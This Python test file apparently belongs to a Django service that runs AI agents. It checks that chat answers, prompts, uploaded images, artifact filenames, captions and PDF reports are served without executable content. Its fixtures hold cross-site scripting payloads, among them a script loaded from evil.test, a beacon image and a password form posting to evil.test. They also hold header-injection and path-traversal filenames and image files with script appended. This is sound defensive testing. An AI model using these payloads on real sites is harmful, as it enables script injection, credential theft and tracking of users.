"""What was made leaves inert: as a file, and as words on every page that shows them."""

import re
from collections.abc import Iterator
from io import BytesIO
from urllib.parse import quote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfReader

from agents.engines.business import document
from agents.engines.business import report as reports
from agents.engines.video import captions
from agents.runners import avatar_builder, business_agent, chat, image_creator
from jobs.models import Artifact, Job
from tests.agents import hostile
from tests.agents.provider import Provider, provider
from tests.dashboard.page import Page, Visitor
from tests.jobs import acts

REAL = {
    "avatar-builder": avatar_builder, "business-agent": business_agent, "chat": chat, "image-creator": image_creator,
}  # fmt: skip
INERT = {"X-Content-Type-Options": "nosniff", "Content-Security-Policy": "default-src 'none'; sandbox"}
MAGIC = {"image/png": b"\x89PNG\r\n\x1a\n", "image/jpeg": b"\xff\xd8\xff"}
SAFE_LINK = re.compile(r"(https?|mailto):|/(?!/)|#|\?", re.IGNORECASE)


@pytest.fixture(autouse=True)
def real_runners(stage, install) -> None:
    for agent_id, module in REAL.items():
        for operation, runner in module.OPERATIONS.items():
            install(runner, agent_id, operation)


@pytest.fixture
def writes(settings) -> Iterator[Provider]:
    """A provider of text: what its script holds is what the model says."""
    with provider() as server:
        settings.TEXT_MODEL, settings.TEXT_API_KEY, settings.TEXT_BASE_URL = "m-1", "k", server.url
        yield server


def made(user, agent_id: str, operation: str, **given: object) -> Job:
    job = acts.finished(user, agent_id, operation=operation, input=given)
    assert (job.status, job.error_message) == ("completed", "")
    return job


def answered(alice, writes, words: str, message: str = "hello") -> Page:
    """The page of an answer in these words."""
    writes.script = [{"pieces": [words]}]
    return Visitor(alice).get(f"/dashboard/jobs/{made(alice, 'chat', 'message', message=message).pk}")


def running_in(page: Page) -> list[str]:
    """Whatever on a page would run, load from elsewhere, or look like the page's own."""
    found = []
    for one in page.elements:
        inline = one.tag == "script" and "src" not in one.attributes
        events = [name for name in one.attributes if name.startswith("on") or name in {"style", "srcdoc"}]
        addresses = [one.attributes[name] for name in ("href", "src", "action", "formaction") if name in one.attributes]
        wild = [address for address in addresses if address and not SAFE_LINK.match(address)]
        if inline or events or wild or one.tag in {"iframe", "object", "embed", "base", "marquee", "math"}:
            found.append(f"{one.tag} {one.attributes}")
    return found


def test_incident_24_pictures_leave_as_pixels_and_a_drawing_only_as_an_attachment(api, alice):
    job = made(alice, "avatar-builder", "generate", prompt=hostile.WORDS["svg"])
    sent = {}
    for name in ("avatar.png", "avatar.svg"):
        assert api.get(f"jobs/{job.pk}/artifacts/{name}")[0] == 200
        sent[name] = (api.last.headers, b"".join(api.last))

    for headers, _ in sent.values():
        assert {name: headers[name] for name in INERT} == INERT
    assert sent["avatar.png"][0]["Content-Disposition"] == 'inline; filename="avatar.png"'
    assert sent["avatar.png"][1].startswith(MAGIC["image/png"])
    assert sent["avatar.svg"][0]["Content-Disposition"] == 'attachment; filename="avatar.svg"'
    assert b"<script" not in sent["avatar.svg"][1]


@pytest.mark.parametrize("name", ["png and page in one", "webp that moves", "gif of 10,000 frames", "jpeg in cmyk"])
def test_incident_24_what_hides_behind_a_picture_does_not_come_out_again(api, alice, name):
    data = hostile.PICTURES[name]() + b"<svg onload=alert(1)><script>alert(1)</script>"
    _, upload = api.send(SimpleUploadedFile("a.html", data, content_type="text/html"))
    job = made(alice, "image-creator", "upscale", image={"upload_id": upload["upload_id"]})
    api.get(f"jobs/{job.pk}/artifacts/image.png")
    sent = b"".join(api.last)

    assert sent.startswith(MAGIC[api.last.headers["Content-Type"]])
    assert b"alert(1)" not in sent
    assert Image.open(BytesIO(sent)).format == "PNG"
    for address in (f"/api/uploads/{upload['upload_id']}", f"/media/uploads/{alice.pk}/{upload['upload_id']}.png"):
        assert api.client.get(address).status_code == 404


NAMES = [
    'a"; filename="evil.html',
    "a;b=c, d.png",
    "ფაილი — naïve.png",
    "..\\..\\x.png",
    "a%0d%0aX-Evil: 1.png",
    "'`$()",
]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_stays_within_its_header(api, alice, name):
    job = made(alice, "avatar-builder", "generate", prompt="a fox")
    Artifact.objects.filter(job=job, name="avatar.png").update(name=name)

    assert api.get(f"jobs/{job.pk}/artifacts/{quote(name, safe='')}")[0] == 200
    assert b"".join(api.last).startswith(MAGIC["image/png"])
    shown = api.last.headers["Content-Disposition"]
    assert re.fullmatch(r"inline; filename(=\"([^\"\\]|\\.)*\"|\*=utf-8''[\w.%~'()!*$`-]+)", shown)
    assert "X-Evil" not in api.last.headers
    assert running_in(Visitor(alice).get(f"/dashboard/jobs/{job.pk}")) == []


SAID = {
    "script": "<script>alert(1)</script><SCRIPT SRC=//evil.test/a.js></SCRIPT>",
    "event": "<img src=x onerror=alert(1)><svg/onload=alert(1)><body onload=alert(1)>",
    "comment": "before <!-- <script>alert(1)</script> --> after <![CDATA[<script>alert(1)</script>]]>",
    "link": "[a](javascript:alert(1)) [b](JaVa\tScRiPt:alert(1)) [c](&#106;avascript:alert(1)) [d](vbscript:x)",
    "data": "[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml;base64,PHN2Zz4=) [c](data:image/png,x)",
    "image": "![beacon](http://evil.test/pixel.png) ![][1]\n\n[1]: http://evil.test/two.png 'title\"><script>'",
    "autolink": "<javascript:alert(1)> <http://a.test/\"onmouseover=alert(1)> <a@a.test>",
    "title": "[a](http://a.test '\" onclick=alert(1) x=\"') [b](<http://a.test/\" style=\"x>)",
    "form": "<form action=//evil.test><input name=password></form><button formaction=javascript:alert(1)>Go</button>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><base href=//evil.test><meta http-equiv=refresh>",
    "fence": "```html\n<script>alert(1)</script>\n```\n\n```\"><script>alert(1)</script>\nx\n```",
    "table": "| <script>1</script> | [x](javascript:1) |\n|:-:|---|\n| <img src=x onerror=1> | `</td><script>` |",
    "htmx": "<div hx-get=/dashboard/settings hx-trigger=load data-x class=banner id=job>Your card was declined</div>",
    "breakout": "</div></main></body></html><script>alert(1)</script><plaintext><textarea></textarea></title>",
    "template": "{% csrf_token %}{{ request.user.password }}{% include 'base.html' %}",
}  # fmt: skip


@pytest.mark.parametrize("words", SAID.values(), ids=SAID)
def test_what_a_model_says_is_only_read(alice, writes, words):
    page = answered(alice, writes, words, message=words)
    plain = answered(alice, writes, "Hello.")

    assert running_in(page) == []
    [read] = page.all("div", class_="read prose")
    assert read.text
    for tag in ("script", "img", "form", "input", "button", "meta", "iframe", "textarea", "style", "svg"):
        assert len(page.all(tag)) == len(plain.all(tag)), tag
    assert len([one for one in page.elements if "hx-get" in one.attributes]) == len(
        [one for one in plain.elements if "hx-get" in one.attributes]
    )
    assert [one.attributes.get("rel") for one in page.all("a") if "a.test" in one.attributes.get("href", "")] == [
        "nofollow noopener noreferrer"
    ] * sum("a.test" in one.attributes.get("href", "") for one in page.all("a"))
    assert "'unsafe-inline'" not in page.response.headers["Content-Security-Policy"].partition("script-src")[2]


@pytest.mark.parametrize("words", [hostile.WORDS["html"], SAID["breakout"], SAID["event"]])
def test_what_a_person_asked_for_is_words_on_every_page(api, alice, words):
    job = made(alice, "avatar-builder", "generate", prompt=words)
    visit = Visitor(alice)
    pages = [
        "/dashboard", "/dashboard/jobs", f"/dashboard/jobs/{job.pk}", "/dashboard/billing", "/dashboard/credits",
        "/dashboard/agents/avatar-builder", f"/dashboard/agents/avatar-builder?operation=generate&from={job.pk}",
    ]  # fmt: skip
    for path in pages:
        page = visit.get(path)
        assert (page.status, running_in(page)) == (200, []), path
    status, shown = api.get(f"jobs/{job.pk}")

    assert (status, shown["input"]["prompt"]) == (200, words.strip())
    assert api.last.headers["Content-Type"].startswith("application/json")
    assert api.last.headers["X-Content-Type-Options"] == "nosniff"


def test_a_conversation_shows_what_was_said_as_a_quotation(alice, writes):
    acts.put_on(alice, "PREMIUM")
    writes.script = [{"pieces": [SAID["breakout"]]}]
    first = made(alice, "chat", "context", message=f"> </blockquote>\n{SAID['script']}\n\n# {SAID['event']}")
    second = made(alice, "chat", "context", message=SAID["link"], conversation=str(first.pk))

    assert running_in(Visitor(alice).get(f"/dashboard/jobs/{second.pk}")) == []


def test_a_report_is_words_on_its_page_and_on_paper(alice, writes):
    acts.put_on(alice, "PREMIUM")
    writes.script = [{"pieces": [f"{SAID['link']} {SAID['script']} {SAID['title']} Region."]}]
    brief = f"{SAID['script']} Our goal: {SAID['event']}. {SAID['link']} by Monday, 35% more. {SAID['form']}"
    job = made(alice, "business-agent", "report", prompt=brief)
    with job.artifacts.get(name="report.pdf").file.open("rb") as stream:
        paper = PdfReader(BytesIO(stream.read()))

    assert running_in(Visitor(alice).get(f"/dashboard/jobs/{job.pk}")) == []
    assert [page.get("/Annots") for page in paper.pages] == [None] * len(paper.pages)
    assert not {"/AA", "/Names", "/AcroForm"} & set(paper.trailer["/Root"])
    assert isinstance(paper.trailer["/Root"]["/OpenAction"], list)  # the page to open at: an action is a dictionary
    assert "alert(1)" in "".join(page.extract_text() for page in paper.pages)


@pytest.mark.parametrize("words", hostile.WORDS.values(), ids=hostile.WORDS)
def test_captions_are_words_between_two_moments(words):
    track = captions.vtt_file(captions.cues_for(words, 0.0, 4.0, 38)).data.decode()
    head, *cues = track.removesuffix("\n").split("\n\n")

    assert head == "WEBVTT"
    for cue in filter(None, cues):
        moment, said = cue.split("\n")
        assert re.fullmatch(r"\d\d:\d\d:\d\d\.\d{3} --> \d\d:\d\d:\d\d\.\d{3}", moment)
        assert not re.search(r"-->|[<>\r\u2028\u2029\x85]|&(?!amp;|lt;|gt;)", said)


@pytest.mark.parametrize("words", hostile.WORDS.values(), ids=hostile.WORDS)
def test_a_report_on_anything_opens_as_paper(words):
    whole = reports.document_of(f"{words}. A brief.", words, words, words)

    assert document.pages_in(document.as_pdf(whole)) == len(PdfReader(BytesIO(document.as_pdf(whole))).pages)
